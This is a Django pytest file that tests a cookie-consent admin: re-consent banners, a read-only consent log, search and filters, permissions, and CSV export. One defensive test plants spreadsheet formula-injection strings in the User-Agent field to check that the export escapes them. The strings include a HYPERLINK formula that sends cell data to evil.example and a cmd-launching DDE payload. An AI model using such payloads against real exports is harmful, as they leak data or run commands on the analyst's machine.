import csv
import io
from http import HTTPStatus

import pytest
from django.contrib.auth.models import User

from consent.models import ConsentRecord, Cookie, CookieCategory
from privacy_portal.roles import roles_sync
from privacy_portal.services import policy_draft_create, policy_publish
from tests.consent.conftest import banner_shown, decide

pytestmark = pytest.mark.django_db

RECORDS = "/admin/consent/consentrecord/"


@pytest.fixture
def dpo_client(demo_policy):
    from django.test import Client

    dpo = User.objects.create_user("dpo", "dpo@example.com", "pw", is_staff=True)
    dpo.groups.add(roles_sync()["DPO"])
    client = Client()
    client.force_login(dpo)
    return client


def test_dpo_declares_a_cookie_and_visitors_are_asked_again_about_that_category_only(
    client, dpo_client
):
    decide(client, action="custom", categories=["preferences", "analytics"])
    assert not banner_shown(client.get("/").content.decode())
    marketing = CookieCategory.objects.get(slug="marketing")

    response = dpo_client.post(
        "/admin/consent/cookie/add/",
        {
            "name": "_fbp",
            "provider": "Meta",
            "purpose": "Measures ads.",
            "duration": "3 months",
            "category": marketing.pk,
        },
    )

    assert response.status_code == HTTPStatus.FOUND
    html = client.get("/").content.decode()
    assert banner_shown(html)
    assert "Our cookies have changed" in html
    assert 'id="cc-marketing"' in html
    assert 'id="cc-analytics"' not in html

    decide(client, action="reject_all")  # answers only the question asked
    latest = ConsentRecord.objects.order_by("-id").first()
    assert latest.states == {
        "analytics": True,
        "marketing": False,
        "necessary": True,
        "preferences": True,
    }
    assert not banner_shown(client.get("/").content.decode())


def test_a_new_policy_version_requiring_reconsent_asks_again(
    client, demo_policy, django_capture_on_commit_callbacks
):
    decide(client, action="accept_all")
    draft = policy_draft_create(
        language="en",
        body="## Personal data\n\nNew.",
        effective_date=demo_policy[-1].effective_date,
        requires_reconsent=True,
    )
    with django_capture_on_commit_callbacks(execute=True):
        policy_publish(version=draft)

    html = client.get("/").content.decode()

    assert banner_shown(html)
    assert "Our privacy policy has changed" in html


def test_built_in_categories_cannot_be_deleted(dpo_client):
    analytics = CookieCategory.objects.get(slug="analytics")

    response = dpo_client.post(
        f"/admin/consent/cookiecategory/{analytics.pk}/delete/", {"post": "yes"}
    )

    assert response.status_code == HTTPStatus.FORBIDDEN
    assert CookieCategory.objects.filter(slug="analytics").exists()


def test_consent_log_is_read_only_in_the_admin(client, dpo_client):
    decide(client, action="accept_all")
    record = ConsentRecord.objects.get()

    assert dpo_client.get(RECORDS).status_code == HTTPStatus.OK
    assert dpo_client.get(f"{RECORDS}{record.pk}/change/").status_code == HTTPStatus.OK
    assert (
        dpo_client.post(f"{RECORDS}{record.pk}/change/", {"action": "reject_all"}).status_code
        == HTTPStatus.FORBIDDEN
    )
    assert (
        dpo_client.post(f"{RECORDS}{record.pk}/delete/", {"post": "yes"}).status_code
        == HTTPStatus.FORBIDDEN
    )
    assert dpo_client.get(f"{RECORDS}add/").status_code == HTTPStatus.FORBIDDEN
    assert ConsentRecord.objects.get().action == "accept_all"


def test_consent_log_search_by_consent_id(client, dpo_client):
    decide(client, action="accept_all")
    other = type(client)()
    decide(other, action="reject_all")
    wanted = ConsentRecord.objects.get(action="accept_all")

    found = dpo_client.get(RECORDS, {"q": str(wanted.consent_id)})
    nonsense = dpo_client.get(RECORDS, {"q": "not-a-uuid"})

    assert list(found.context["cl"].result_list) == [wanted]
    assert nonsense.status_code == HTTPStatus.OK
    assert list(nonsense.context["cl"].result_list) == []


def test_consent_log_filters(client, dpo_client):
    decide(client, action="accept_all")
    decide(type(client)(), action="reject_all", headers={"Sec-GPC": "1"})

    by_action = dpo_client.get(RECORDS, {"action__exact": "reject_all"})
    by_gpc = dpo_client.get(RECORDS, {"gpc__exact": "1"})
    unsealed = dpo_client.get(RECORDS, {"sealed": "no"})

    assert [r.action for r in by_action.context["cl"].result_list] == ["reject_all"]
    assert [r.gpc for r in by_gpc.context["cl"].result_list] == [True]
    assert len(unsealed.context["cl"].result_list) == 2


def test_consent_log_exports_csv(client, dpo_client):
    decide(
        client, action="custom", categories=["analytics"], headers={"User-Agent": "=HYPERLINK()"}
    )
    record = ConsentRecord.objects.get()

    response = dpo_client.post(RECORDS, {"action": "export_csv", "_selected_action": [record.pk]})

    assert response.status_code == HTTPStatus.OK
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert rows[0]["consent_id"] == str(record.consent_id)
    assert rows[0]["states"] == "analytics=on;marketing=off;necessary=on;preferences=off"
    assert rows[0]["banner_sha256"] == record.banner_sha256
    assert rows[0]["user_agent"] == "'=HYPERLINK()"  # never a spreadsheet formula


@pytest.mark.parametrize(
    "user_agent",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        ' =HYPERLINK("https://evil.example/?"&A1,"click")',  # a spreadsheet may trim the space
        '\uff1dHYPERLINK("https://evil.example/?"&A1,"click")',  # full-width equals sign
        "\t@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_consent_log_export_keeps_a_planted_formula_as_text(client, dpo_client, user_agent):
    decide(client, action="accept_all", headers={"User-Agent": user_agent})
    record = ConsentRecord.objects.get()

    response = dpo_client.post(RECORDS, {"action": "export_csv", "_selected_action": [record.pk]})

    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["user_agent"] == f"'{user_agent}"


def test_consent_changelist_query_count_does_not_grow_with_rows(
    client, dpo_client, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    decide(client, action="accept_all")
    with CaptureQueriesContext(connection) as few:
        dpo_client.get(RECORDS)
    for _ in range(30):
        decide(type(client)(), action="reject_all")
    with CaptureQueriesContext(connection) as many:
        dpo_client.get(RECORDS)

    assert len(many) == len(few)


def test_staff_outside_the_dpo_group_cannot_read_the_log(client, demo_policy):
    staff = User.objects.create_user("clerk", "c@example.com", "pw", is_staff=True)
    client.force_login(staff)

    assert client.get(RECORDS).status_code == HTTPStatus.FORBIDDEN
    assert client.get("/admin/consent/cookie/").status_code == HTTPStatus.FORBIDDEN


def test_cookie_declarations_are_listed(dpo_client):
    response = dpo_client.get("/admin/consent/cookie/")

    assert response.status_code == HTTPStatus.OK
    assert Cookie.objects.filter(name="_ga").exists()
    assert "_ga_*" in response.content.decode()
